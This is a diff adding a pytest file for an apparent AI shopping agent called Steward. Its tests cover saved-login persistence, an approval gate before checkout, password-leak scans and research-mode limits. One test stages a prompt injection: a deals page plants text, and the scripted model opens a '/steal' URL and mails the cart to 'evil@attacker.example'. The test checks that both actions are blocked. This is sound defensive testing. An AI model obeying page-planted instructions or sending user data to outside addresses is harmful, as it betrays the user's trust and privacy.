@@ -1,0 +1,385 @@
+"""A person lets Steward shop for them, through the real worker, tools and Chromium: on day 1
+a task signs in to the shop with a saved login; on day 3 another task — a new harness, a new
+browser, the same profile — is still signed in, finds the kettle, fills the cart, reaches the
+checkout and waits for the person's approval with a picture of the form; approved, the order
+is placed once. The password shows up nowhere; a page's planted instruction steers nothing; a
+research task sends nothing.
+
+The model is scripted: each answer reads the element references (``[ref=e12]``) off the last
+page it was shown, as a model would.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import logging
+import re
+from collections.abc import Callable, Iterator, Sequence
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import structlog
+from sqlalchemy import select  # noqa: TID251 - the leak scan reads every table directly
+
+from steward.app import build_harness
+from steward.config import Settings
+from steward.domain import ApprovalStatus, TaskSpec, TaskStatus
+from steward.domain.clock import SimulatedClock
+from steward.models import ScriptedModel
+from steward.models.base import Message, ModelResponse, ToolSpec
+from steward.models.scripted import call_tool
+from steward.service import Service
+from steward.store import Store
+from steward.store.schema import metadata
+from support.agents import agent_worker
+from support.web import require_chromium
+from support.webserver import Site, serve_site
+from support.webshop import Shop, serve_shop
+
+PASSWORD = "kettle-Tr0ub4dor&3"
+"""The shop password: looked for everywhere afterwards."""
+LOGIN = "corner-shop"
+"""The vault secret holding it."""
+NAME, ADDRESS = "Ada Lovelace", "12 Analytical Way"
+CART = re.compile(r"CART-[0-9A-F]{6}")
+
+Script = Callable[[Sequence[Message], Sequence[ToolSpec]], ModelResponse]
+
+
+def page_of(messages: Sequence[Message]) -> str:
+    """The snapshot of the last page a tool showed (JSON ``{"page": ...}``)."""
+    for message in reversed(messages):
+        if message.role != "tool":
+            continue
+        try:
+            seen = json.loads(message.content)
+        except ValueError:
+            continue
+        if isinstance(seen, dict) and isinstance(seen.get("page"), str):
+            return str(seen["page"])
+    return ""
+
+
+def ref(page: str, role: str, name: str) -> str:
+    found = re.search(rf'- {role} "{re.escape(name)}"[^\n]*?\[ref=([a-z0-9]+)\]', page)
+    if found is None:
+        raise LookupError(f'no {role} "{name}" on the page:\n{page}')
+    return found.group(1)
+
+
+def scripted(*moves: Callable[[str], ModelResponse]) -> Script:
+    """A model making ``moves`` in turn, each from the last page seen; it fails the task
+    (saying why) when a page is not what the move expects."""
+
+    def answer(messages: Sequence[Message], tools: Sequence[ToolSpec]) -> ModelResponse:
+        made = sum(len(m.tool_calls) for m in messages if m.role == "assistant")
+        page = page_of(messages)
+        try:
+            return moves[made](page) if made < len(moves) else call_tool("finish", result="done")
+        except LookupError as exc:
+            last = messages[-1].content if messages else ""
+            return call_tool("fail", reason=f"{exc}\nlast observation: {last}")
+
+    return answer
+
+
+def sign_in(url: str) -> Script:
+    return scripted(
+        lambda _: call_tool("browser_open", url=f"{url}/login"),
+        lambda page: call_tool(
+            "browser_login",
+            login=LOGIN,
+            username_ref=ref(page, "textbox", "Username"),
+            password_ref=ref(page, "textbox", "Password"),
+            submit_ref=ref(page, "button", "Log in"),
+        ),
+    )
+
+
+def buy_kettle(url: str) -> Script:
+    return scripted(
+        lambda _: call_tool("browser_open", url=f"{url}/search?q=kettle"),
+        lambda page: call_tool("browser_click", ref=ref(page, "link", "Blue kettle")),
+        lambda page: call_tool("browser_click", ref=ref(page, "button", "Add to cart")),
+        lambda _: call_tool("browser_wait", text="Added to cart", seconds=30),
+        lambda page: call_tool("browser_click", ref=ref(page, "link", "Cart")),
+        lambda page: call_tool("browser_click", ref=ref(page, "link", "Checkout")),
+        lambda page: call_tool("browser_type", ref=ref(page, "textbox", "Full name"), text=NAME),
+        lambda page: call_tool("browser_type", ref=ref(page, "textbox", "Address"), text=ADDRESS),
+        lambda page: call_tool(
+            "browser_submit",
+            ref=ref(page, "button", "Place order"),
+            expect_url=f"{url}/orders",
+            expect_text=cart_in(page),
+        ),
+    )
+
+
+def cart_in(page: str) -> str:
+    found = CART.search(page)
+    if found is None:
+        raise LookupError(f"no cart reference on the page:\n{page}")
+    return found.group(0)
+
+
+@pytest.fixture(autouse=True)
+def chromium() -> None:
+    require_chromium()
+
+
+@pytest.fixture
+def shop(tmp_path: Path) -> Iterator[Shop]:
+    with serve_shop(tmp_path / "shop", accounts={"ada": PASSWORD}) as running:
+        yield running
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Site]:
+    """Another server (127.0.0.1, a host no connection names) the planted text points at."""
+    with serve_site() as site:
+        site.page("/steal", "<p>thanks</p>")
+        yield site
+
+
+@pytest.fixture
+def logs() -> Iterator[list[dict[str, Any]]]:
+    """Every structlog event of the test, at every level (scanned for the password)."""
+    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.DEBUG))
+    try:
+        with structlog.testing.capture_logs() as captured:
+            yield captured
+    finally:
+        structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.WARNING))
+
+
+class Day:
+    """The person, their shop connection and saved login, and tasks run by a fresh harness
+    each time (as a restarted worker would build it)."""
+
+    def __init__(self, store: Store, clock: SimulatedClock, data: Path, shop: Shop) -> None:
+        self.store, self.clock, self.data, self.shop = store, clock, data, shop
+        self.svc = Service(store, clock, data_dir=data)
+        self.person = ""
+
+    async def setup(self) -> None:
+        self.person = (await self.svc.ensure_person()).id
+        await self.svc.add_connection(
+            person_id=self.person,
+            kind="browser",
+            name="shop",
+            scopes=["browser.read", "browser.act", "browser.submit"],
+            hosts=["localhost"],
+        )
+        secret = json.dumps({"username": "ada", "password": PASSWORD})
+        await self.svc.put_secret(
+            person_id=self.person, name=LOGIN, value=secret, hosts=["localhost"]
+        )
+
+    async def ask(self, instructions: str, script: Script, *, research: bool = False) -> str:
+        task_input: dict[str, Any] = {"instructions": instructions}
+        if research:
+            task_input["mode"] = "research"
+        task = await self.svc.create_task(
+            person_id=self.person,
+            spec=TaskSpec(kind="agent", input=task_input, title=instructions[:80], max_attempts=3),
+        )
+        await self.run(script)
+        return task.id
+
+    async def run(self, script: Script) -> None:
+        """One worker, on a harness built now (a restart: a new browser on the same profile)."""
+        model = ScriptedModel(script)
+        harness = await build_harness(
+            Settings(data_dir=self.data), self.store, self.clock, model=model
+        )
+        await agent_worker(self.store, harness, self.clock).run_until_idle()
+
+    async def status(self, task_id: str) -> TaskStatus:
+        return (await self.svc.get_task(task_id)).status
+
+    async def said(self, task_id: str) -> dict[str, list[str]]:
+        """Each tool's observations in the task, by tool name."""
+        seen: dict[str, list[str]] = {}
+        for step in await self.svc.steps(task_id):
+            if step.kind == "tool":
+                seen.setdefault(step.output["name"], []).append(step.output["observation"])
+        return seen
+
+    async def story(self, task_id: str) -> str:
+        """The task's steps, for a failure message."""
+        return "\n".join(f"{s.seq} {s.kind}: {s.output}" for s in await self.svc.steps(task_id))
+
+
+async def test_signed_in_on_day_one_the_day_three_order_waits_for_approval_and_is_placed_once(
+    store: Store,
+    clock: SimulatedClock,
+    tmp_path: Path,
+    shop: Shop,
+    logs: list[dict[str, Any]],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    day = Day(store, clock, tmp_path / "data", shop)
+    await day.setup()
+
+    first = await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
+    assert await day.status(first) is TaskStatus.SUCCEEDED, await day.story(first)
+    [signed] = shop.state.requests("POST", "/login")
+    assert (signed.status, signed.form["username"]) == (303, "ada")
+    [login_said] = (await day.said(first))["browser_login"]
+    assert "Welcome back, ada" in login_said
+
+    clock.advance(timedelta(days=2))
+    seen_before = len(shop.state.requests())
+    second = await day.ask(
+        f"Order a blue kettle from {shop.url} to {NAME}, {ADDRESS}", buy_kettle(shop.url)
+    )
+    assert await day.status(second) is TaskStatus.WAITING, await day.story(second)
+    day3 = shop.state.requests()[seen_before:]
+    assert shop.state.count("POST", "/login") == 1  # still signed in: no second login
+    assert all(s.user == "ada" for s in day3 if s.path != "/login")
+    assert [s.path for s in day3 if s.method == "POST"] == ["/cart/add"]  # nothing ordered yet
+    ref, items = shop.state.cart("ada")
+    assert items == {"blue-kettle": 1}
+
+    [asked] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
+    assert asked.tool == "browser_submit"
+    assert asked.preview is not None
+    assert asked.preview.picture is not None
+    picture = Settings(data_dir=day.data).workspace_dir / day.person / asked.preview.picture
+    png = picture.read_bytes()
+    assert png.startswith(b"\x89PNG")
+    assert hashlib.sha256(png).hexdigest() == asked.preview.picture_sha256
+    values = {value for _, value in asked.preview.facts}
+    assert {"localhost", NAME, ADDRESS} <= values, asked.preview.facts
+    assert asked.args["expect_text"] == ref
+
+    await day.svc.decide_approval(asked.id, approve=True)
+    await day.run(buy_kettle(shop.url))  # the worker that resumes it: another restart
+    assert await day.status(second) is TaskStatus.SUCCEEDED, await day.story(second)
+    assert shop.state.count("POST", "/order") == 1
+    [order] = shop.state.orders()
+    assert (order.cart, order.items, order.name, order.address) == (
+        ref,
+        (("blue-kettle", 1),),
+        NAME,
+        ADDRESS,
+    )
+    [posted] = shop.state.requests("POST", "/order")
+    assert (posted.mode, posted.user) == ("navigate", "ada")  # a form sent by the browser
+
+    await assert_password_nowhere(day, [first, second], tmp_path, logs, caplog)
+
+
+async def assert_password_nowhere(
+    day: Day,
+    tasks: list[str],
+    root: Path,
+    logs: list[dict[str, Any]],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """Not in a step, an approval, the audit log, any table, any log record, or any file under
+    ``root`` (the data directory, its browser profile and pictures, the database, the shop's
+    own files): only the vault's ciphertext holds it."""
+    for task in tasks:
+        steps = json.dumps([s.output for s in await day.svc.steps(task)], default=str)
+        assert PASSWORD not in steps
+    approvals = await day.svc.list_approvals(person_id=day.person, status=None)
+    assert approvals
+    assert PASSWORD not in repr(approvals)
+    audit = await day.svc.audit_log(person_id=day.person)
+    assert audit
+    assert PASSWORD not in repr(audit)
+    scanned = 0
+    for table in metadata.sorted_tables:
+        rows = await day.store.backend.read(lambda c, t=table: c.execute(select(t)).all())
+        scanned += len(rows)
+        assert not [row for row in rows if PASSWORD in str(tuple(row))], table.name
+    assert scanned > 0
+    assert logs  # the scan saw real events
+    assert PASSWORD not in repr(logs)
+    assert not [r.getMessage() for r in caplog.records if PASSWORD in r.getMessage()]
+    files, leaked = files_holding(root, PASSWORD.encode())
+    assert [p for p in files if p.suffix == ".png"]  # the approval's picture at least
+    assert leaked == []
+
+
+def files_holding(root: Path, needle: bytes) -> tuple[list[Path], list[str]]:
+    """Every file under ``root``, and those whose bytes hold ``needle``."""
+    files = [p for p in root.rglob("*") if p.is_file() and not p.is_symlink()]
+    return files, [str(p) for p in files if needle in p.read_bytes()]
+
+
+async def test_a_planted_instruction_steers_nothing(
+    store: Store, clock: SimulatedClock, tmp_path: Path, shop: Shop, elsewhere: Site
+) -> None:
+    shop.steal_url = f"{elsewhere.url}/steal"
+    day = Day(store, clock, tmp_path / "data", shop)
+    await day.setup()
+    await day.svc.add_connection(
+        person_id=day.person, kind="mail", name="home", scopes=["mail.read", "mail.send"]
+    )
+    await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
+    task = await day.ask(
+        f"What is today's deal at {shop.url}/deals?",
+        scripted(
+            lambda _: call_tool("browser_open", url=f"{shop.url}/deals"),
+            # what a model steered by the page would do next
+            lambda _: call_tool("browser_open", url=f"{elsewhere.url}/steal"),
+            lambda _: call_tool(
+                "mail_send",
+                to="evil@attacker.example",
+                subject="My cart",
+                body="The cart, as asked on the deals page.",
+            ),
+        ),
+    )
+    said = await day.said(task)
+    [deal, refused] = said["browser_open"]
+    assert "evil@attacker.example" in deal  # the model was shown the planted text
+    assert refused.startswith(("denied", "error")), refused
+    assert elsewhere.count() == 0  # nothing reached the other host
+    assert await day.status(task) is TaskStatus.WAITING, await day.story(task)
+    [asked] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
+    assert asked.tool == "mail_send"
+    assert asked.args["to"] == "evil@attacker.example"
+    assert "untrusted input" in asked.reason
+    assert "mail_send" not in said  # it did not run
+    assert shop.state.count("POST", "/order") == 0
+
+
+async def test_research_cannot_type_or_send_anything(
+    store: Store, clock: SimulatedClock, tmp_path: Path, shop: Shop
+) -> None:
+    day = Day(store, clock, tmp_path / "data", shop)
+    await day.setup()
+    await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
+    shop.state.put_in_cart("ada", "green-teapot")  # put there by the person, earlier
+    posts_before = len(shop.state.requests("POST"))
+    task = await day.ask(
+        f"Look into kettles at {shop.url}",
+        scripted(
+            lambda _: call_tool("browser_open", url=f"{shop.url}/product/blue-kettle"),
+            lambda page: call_tool("browser_click", ref=ref(page, "button", "Add to cart")),
+            lambda _: call_tool("browser_open", url=f"{shop.url}/checkout"),
+            lambda page: call_tool(
+                "browser_type", ref=ref(page, "textbox", "Full name"), text=NAME
+            ),
+            lambda page: call_tool(
+                "browser_submit",
+                ref=ref(page, "button", "Place order"),
+                expect_url=f"{shop.url}/orders",
+                expect_text="Order 1",
+            ),
+        ),
+        research=True,
+    )
+    assert await day.status(task) is TaskStatus.SUCCEEDED, await day.story(task)
+    said = await day.said(task)
+    assert said["browser_type"][0].startswith("denied"), said["browser_type"]
+    assert said["browser_submit"][0].startswith("denied"), said["browser_submit"]
+    assert shop.state.requests("POST")[posts_before:] == []  # not even the cart's fetch()
+    assert await day.svc.list_approvals(person_id=day.person, status=None) == []
